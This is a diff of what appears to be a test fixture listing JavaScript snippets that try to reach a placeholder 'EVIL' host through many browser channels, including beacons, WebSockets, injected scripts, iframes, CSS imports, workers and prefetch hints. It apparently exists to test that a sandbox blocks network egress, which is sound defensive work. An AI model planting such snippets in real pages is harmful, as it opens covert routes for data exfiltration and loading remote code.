@@ -18,21 +18,23 @@ const REACHES: Record<string, string> = {
   beacon: 'navigator.sendBeacon("EVIL/beacon", "x");',
   'event source': 'new EventSource("EVIL/events");',
   socket: 'new WebSocket("EVIL/socket".replace("http", "ws"));',
-  script: 'var s = document.createElement("script"); s.src = "EVIL/script"; document.body.appendChild(s);',
+  script:
+    'var s = document.createElement("script"); try { s.src = "EVIL/script"; } catch (e) {} document.body.appendChild(s);',
   module: 'import("EVIL/module").catch(function () {});',
   frame: 'var f = document.createElement("iframe"); f.src = "EVIL/frame"; document.body.appendChild(f);',
   style:
     'var s = document.createElement("style"); s.textContent = "@import url(EVIL/style); body { background: url(EVIL/background) }"; document.body.appendChild(s);',
   font: 'new FontFace("f", "url(EVIL/font)").load().catch(function () {});',
   media: 'new Audio("EVIL/media").load();',
-  object: 'var o = document.createElement("object"); o.data = "EVIL/object"; document.body.appendChild(o);',
+  object:
+    'var o = document.createElement("object"); try { o.data = "EVIL/object"; } catch (e) {} document.body.appendChild(o);',
   worker: 'try { new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"]))); } catch (e) {}',
   prefetch:
     'var l = document.createElement("link"); l.rel = "prefetch"; l.href = "EVIL/prefetch"; document.head.appendChild(l);',
   preconnect:
     'var l = document.createElement("link"); l.rel = "preconnect"; l.href = "EVIL"; document.head.appendChild(l);',
   'rule to prefetch':
-    'var s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["EVIL/rule"] }] }); document.head.appendChild(s);',
+    'var s = document.createElement("script"); s.type = "speculationrules"; try { s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["EVIL/rule"] }] }); } catch (e) {} document.head.appendChild(s);',
   navigation: 'location.href = "EVIL/navigation";',
   'navigation by an element':
     'var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=EVIL/refresh"; document.head.appendChild(m);',
